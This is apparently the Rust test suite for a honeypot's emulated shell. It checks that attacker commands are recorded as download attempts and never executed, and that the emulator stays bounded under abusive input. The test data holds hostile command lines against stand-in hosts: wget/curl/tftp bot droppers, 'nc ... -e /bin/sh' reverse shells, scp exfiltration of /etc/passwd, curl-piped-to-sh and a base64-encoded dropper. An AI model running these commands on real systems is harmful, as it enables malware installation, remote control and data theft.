    let cases: &[(&str, &str, &str)] = &[
        (
            "wget http://1.2.3.4/bins.sh",
            "http://1.2.3.4/bins.sh",
            "wget",
        ),
        (
            "wget -q -O /tmp/x http://evil.example:8080/x86",
            "http://evil.example:8080/x86",
            "wget",
        ),
        ("wget -O- 5.6.7.8/a.sh", "http://5.6.7.8/a.sh", "wget"),
        (
            "wget --no-check-certificate https://cdn.example/m -O m",
            "https://cdn.example/m",
            "wget",
        ),
        ("wget ftp://9.9.9.9/pub/f", "ftp://9.9.9.9/pub/f", "wget"),
        (
            "curl -fsSL https://evil.example/i.sh",
            "https://evil.example/i.sh",
            "curl",
        ),
        (
            "curl -o /tmp/y http://1.2.3.4/y",
            "http://1.2.3.4/y",
            "curl",
        ),
        (
            "curl -O http://1.2.3.4:81/z.bin",
            "http://1.2.3.4:81/z.bin",
            "curl",
        ),
        (
            "curl --output q --url http://h.example/q",
            "http://h.example/q",
            "curl",
        ),
        ("tftp -g -r mips 1.2.3.4", "tftp://1.2.3.4/mips", "tftp"),
        ("tftp 1.2.3.4 -c get arm7", "tftp://1.2.3.4/arm7", "tftp"),
        (
            "ftpget -v -u anonymous -p x 1.2.3.4 bot bot.mips",
            "ftp://anonymous@1.2.3.4/bot.mips",
            "ftpget",
        ),
        (
            "busybox wget http://1.2.3.4/b",
            "http://1.2.3.4/b",
            "busybox wget",
        ),
        (
            "/bin/busybox tftp -g -r sh4 1.2.3.4 69",
            "tftp://1.2.3.4:69/sh4",
            "busybox tftp",
        ),
        (
            "busybox ftpget 1.2.3.4 x y",
            "ftp://1.2.3.4/y",
            "busybox ftpget",
        ),
        ("busybox nc 1.2.3.4 4444", "1.2.3.4:4444", "busybox nc"),
        ("nc 1.2.3.4 4444 -e /bin/sh", "1.2.3.4:4444", "nc"),
        ("ncat evil.example 443", "evil.example:443", "ncat"),
        (
            "scp root@1.2.3.4:/tmp/x .",
            "scp://root@1.2.3.4/tmp/x",
            "scp",
        ),
        (
            "scp -P 2222 /etc/passwd u@exfil.example:loot",
            "scp://u@exfil.example:2222/loot",
            "scp",
        ),
        (
            "ssh -p 2200 admin@10.1.1.1",
            "ssh://admin@10.1.1.1:2200",
            "ssh",
        ),
    ];
    for (line, url, tool) in cases {
        let mut sh = root(&w);
        run(&mut sh, "cd /tmp");
        let before = run(&mut sh, "ls -A /tmp /root");
        let bytes = sh.overlay_bytes();
        let o = sh.run(line);
        assert_eq!(
            downloads(&o),
            vec![(url.to_string(), tool.to_string())],
            "{line}: {}",
            text(&o)
        );
        assert_ne!(o.status, 0, "{line} must fail");
        assert!(
            o.effects
                .iter()
                .all(|e| !matches!(e, Effect::FileWritten { .. })),
            "{line} wrote a file"
        );
        assert_eq!(
            run(&mut sh, "ls -A /tmp /root"),
            before,
            "{line} created something"
        );
        assert_eq!(sh.overlay_bytes(), bytes, "{line}");
    }
}

#[test]
fn dropper_messages_are_what_the_tools_print_on_failure() {
    let w = deb_world();
    let mut sh = root(&w);
    let out = run(&mut sh, "wget http://1.2.3.4/x");
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines[0].starts_with("--") && lines[0].ends_with("--  http://1.2.3.4/x"),
        "{out}"
    );
    assert_eq!(
        lines[1],
        "Connecting to 1.2.3.4:80... failed: Connection refused."
    );
    let out = run(&mut sh, "wget evil.example/x");
    assert!(out.contains("Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.example’\n"), "{out}");
    assert_eq!(run(&mut sh, "wget -q http://1.2.3.4/x"), "");
    assert_eq!(run(&mut sh, "curl -s http://evil.example/x"), "");
    assert_eq!(
        run(&mut sh, "curl http://evil.example/x"),
        "curl: (6) Could not resolve host: evil.example\n"
    );
    assert_eq!(sh.run("curl http://evil.example/x").status, 6);
    assert!(run(&mut sh, "wget").starts_with("wget: missing URL"));
    assert_eq!(run(&mut sh, "/bin/busybox wget http://1.2.3.4/q"), "Connecting to 1.2.3.4 (1.2.3.4:80)\nwget: can't connect to remote host (1.2.3.4): Connection refused\n");
}

#[test]
fn curl_piped_to_a_shell_records_the_url_and_runs_nothing() {
    let w = deb_world();
    let mut sh = root(&w);
    let o = sh.run("curl http://x/y.sh | sh");
    assert_eq!(
        downloads(&o),
        vec![("http://x/y.sh".to_string(), "curl".to_string())]
    );
    assert!(o
        .effects
        .iter()
        .all(|e| !matches!(e, Effect::FileWritten { .. })));
    let o = sh.run("wget -qO- http://1.2.3.4/i.sh | bash");
    assert_eq!(downloads(&o).len(), 1);
    // what does reach a shell on stdin runs in the fake shell: its wget is only recorded
    let o = sh.run("echo 'wget http://6.6.6.6/z; echo ran' | sh");
    assert_eq!(
        downloads(&o),
        vec![("http://6.6.6.6/z".to_string(), "wget".to_string())]
    );
    assert!(text(&o).ends_with("ran\n"));
    let o = sh.run("echo d2dldCBodHRwOi8vNy43LjcuNy9w | base64 -d | sh");
    assert_eq!(
        downloads(&o),
        vec![("http://7.7.7.7/p".to_string(), "wget".to_string())]
    );
}

#[test]
fn an_uploaded_script_runs_through_the_fake_shell_and_its_wget_is_only_recorded() {
    let w = deb_world();
    let mut sh = root(&w);
    let script = b"#!/bin/sh\ncd /tmp\nwget http://6.6.6.6/bot.x86 -O .b\necho $0 ran in $(pwd)\n";
    let up = sh.upload("/tmp/inst.sh", script).unwrap();
    assert_eq!(
        up,
        Upload {
            path: "/tmp/inst.sh".into(),
            size: script.len(),
            sha256: util::sha256_hex(script),
            truncated: false
        }
    );
    assert_eq!(
        run(&mut sh, "/tmp/inst.sh"),
        "-bash: /tmp/inst.sh: Permission denied\n"
    );
    let o = sh.run("chmod +x /tmp/inst.sh; /tmp/inst.sh");
    assert_eq!(
        downloads(&o),
        vec![("http://6.6.6.6/bot.x86".to_string(), "wget".to_string())]
    );
    assert!(
        text(&o).ends_with("/tmp/inst.sh ran in /tmp\n"),
        "{}",
        text(&o)
    );
    assert_eq!(run(&mut sh, "ls -A /tmp | grep -c '^.b$'"), "0\n");
    // its cd stayed in the script's shell
    assert_eq!(run(&mut sh, "pwd"), "/root\n");
    // an ELF cannot run here; relative uploads land in the home directory
    let elf = [b"\x7fELF\x01\x01\x01".as_slice(), &[0u8; 60]].concat();
    let up = sh.upload("bot", &elf).unwrap();
    assert_eq!(up.path, "/root/bot");
    assert_eq!(
        run(&mut sh, "chmod 777 bot; ./bot"),
        "-bash: ./bot: cannot execute binary file: Exec format error\n"
    );
    assert!(run(&mut sh, "file bot").contains("ELF 32-bit LSB"));
    // uploads are capped, the hash is of what was kept
    let limits = Limits {
        max_upload: 10,
        ..Limits::default()
    };
    let mut small = Shell::new(w.clone(), "root", limits);
    let up = small.upload("/tmp/big", &[7u8; 100]).unwrap();
    assert!(up.truncated);
    assert_eq!(up.size, 10);
    assert_eq!(up.sha256, util::sha256_hex(&[7u8; 10]));
    assert!(small.upload("/nope/x", b"x").is_err());
}

// ---- bounds ----

#[test]
fn nesting_loops_and_recursion_are_bounded() {
    let w = deb_world();
    let mut sh = root(&w);
    // substitutions deeper than the cap run nothing more
    let o = sh.run("echo $(echo $(echo $(echo $(echo $(echo deep)))))");
    assert_eq!(text(&o), "\n");
    // parse nesting past the cap is refused, not a stack overflow
    let deep = format!("echo {}x{}", "$(".repeat(5000), ")".repeat(5000));
    assert_eq!(
        run(&mut sh, &deep),
        "-bash: expression recursion level exceeded\n"
    );
    // endless loops stop
    let o = sh.run("while true; do echo -n; done; echo after");
    assert_eq!(text(&o), "");
    assert_eq!(run(&mut sh, "echo next"), "next\n");
    // a script that runs itself
    run(&mut sh, "echo 'sh /tmp/r.sh; sh /tmp/r.sh' > /tmp/r.sh");
    assert_eq!(sh.run("sh /tmp/r.sh; echo end").output, b"end\n");
    // a huge expansion is refused
    let five = "$(yes | head -c 300000)".repeat(5);
    let o = sh.run(&format!("echo \"{five}\" | wc -c"));
    assert_eq!(
        text(&o),
        "-bash: xmalloc: cannot allocate 262143 bytes\n0\n"
    );
    // a variable holds at most 64 KiB
    assert_eq!(
        run(&mut sh, "v=$(yes | head -c 100000); echo ${#v}"),
        "65536\n"
    );
}

#[test]
fn commands_that_run_commands_and_walks_are_bounded() {
    let w = deb_world();
    let mut sh = root(&w);
    let o = sh.run(&format!(
        "cd /tmp; {}id -u; grep -c Resource nohup.out",
        "nohup ".repeat(3000)
    ));
    assert!(text(&o).ends_with("\n1\n"), "{}", text(&o));
    for wrapper in [
        "sudo ",
        "env ",
        "command ",
        "timeout 5 ",
        "busybox ",
        "exec ",
    ] {
        let line = format!("{}id -u", wrapper.repeat(3000));
        let o = sh.run(&line);
        assert!(
            text(&o).contains("Resource temporarily unavailable"),
            "{wrapper}: {}",
            text(&o)
        );
    }
    let o = sh.run(&format!("echo x | {}echo", "xargs ".repeat(3000)));
    assert!(text(&o).contains("Resource temporarily unavailable"));
    // find -exec find -exec …: the line's walking budget runs out
    let o = sh.run("find / -exec find / -exec find / \\; \\; | wc -l");
    assert!(o.output.len() < 64, "{}", text(&o));
    // a glob that would list everything many times over matches nothing instead
    let o = sh.run(&format!("echo /{}", "*/".repeat(2000)));
    assert!(text(&o).starts_with("/*/*/"));
    // arithmetic nesting
    let o = sh.run(&format!(
        "echo $(({}1{}))",
        "(".repeat(200),
        ")".repeat(200)
    ));
    assert!(
        text(&o).contains("expression recursion level exceeded"),
        "{}",
        text(&o)
    );
}

#[test]
fn junk_input_never_panics() {
    let w = deb_world();
    let mut sh = root(&w);
    let mut r = fastrand::Rng::with_seed(99);
    for _ in 0..300 {
        let n = r.usize(..200);
        let bytes: Vec<u8> = (0..n)
            .map(|_| {
                *b"$(){}[]<>|&;'\"`\\ *?~#!=-0a\n\t\x00\xff"
                    .get(r.usize(..35))
                    .unwrap_or(&b'a')
            })
            .collect();
        let line = String::from_utf8_lossy(&bytes);
        let _ = sh.run(&line);
        let _ = sh.prompt();
    }
    let big = "\u{fffd}\0".repeat(500_000);
    let o = sh.run(&big);
    assert!(o.effects.contains(&Effect::Capped { what: "line" }));
    fuzz(b"echo hi; cat /proc/self/exe | head -c 4; ls -R / | wc -l\nwget x");
}

// ---- what a session costs ----

#[test]
fn an_idle_session_is_small_and_shares_the_base() {
    // 8 (Arc) + 16 (who) + 16 (cwd) + 40 (overlay) + 40 (limits) + 24 (vars) + 24 (history)
    // + 8 (extra) + 4 (status) + 2×4 (pids) + 8 (started), padded
    assert!(
        std::mem::size_of::<Shell>() <= 208,
        "{}",
        std::mem::size_of::<Shell>()
    );
    let w = deb_world();
    let before = Arc::strong_count(&w);
    let shells: Vec<Shell> = (0..100).map(|_| root(&w)).collect();
    assert_eq!(Arc::strong_count(&w), before + 100);
    for s in &shells {
        assert_eq!(s.overlay_bytes(), 0);
        assert_eq!(s.ov.entries(), 0);
        assert!(s.extra.is_none() && s.vars.is_empty() && s.history.is_empty());
    }
    assert!(w.entries() > 500, "{}", w.entries());
    // sessions move between tasks and threads; the world is shared by them
    fn send<T: Send>() {}
    fn shared<T: Send + Sync>() {}
    send::<Shell>();
    shared::<World>();
}

#[test]
fn without_a_terminal_ls_prints_one_name_per_line() {
    let w = deb_world();
    let mut sh = root(&w);
    assert!(
        run(&mut sh, "ls /").lines().count() < 10,
        "columns on a terminal"
    );
    sh.set_pty(false);
    let names = run(&mut sh, "ls /");
    assert!(names.lines().count() > 15);
    assert!(names.lines().all(|l| !l.contains(' ')));
    assert_eq!(names, run(&mut sh, "ls -1 /"));
}
